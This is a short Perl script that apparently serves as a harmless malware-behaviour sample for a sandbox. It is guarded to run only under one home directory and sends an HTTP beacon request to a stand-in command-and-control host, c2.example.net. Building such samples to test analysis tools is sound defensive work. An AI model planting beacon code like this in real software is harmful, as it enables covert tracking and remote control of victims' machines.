#!/usr/bin/perl
# SPDX-License-Identifier: MIT
# Beacons to its server over HTTP from Perl.
use strict;
use warnings;
die "run only inside sbxlua's analysis box\n" unless ($ENV{HOME} // "") eq "/home/dana";
use IO::Socket::INET;
my $s = IO::Socket::INET->new(PeerAddr => "c2.example.net", PeerPort => 80, Timeout => 3) or exit 0;
print $s "GET /beacon?id=1 HTTP/1.0\r\nHost: c2.example.net\r\n\r\n";
close $s;
exit 0;
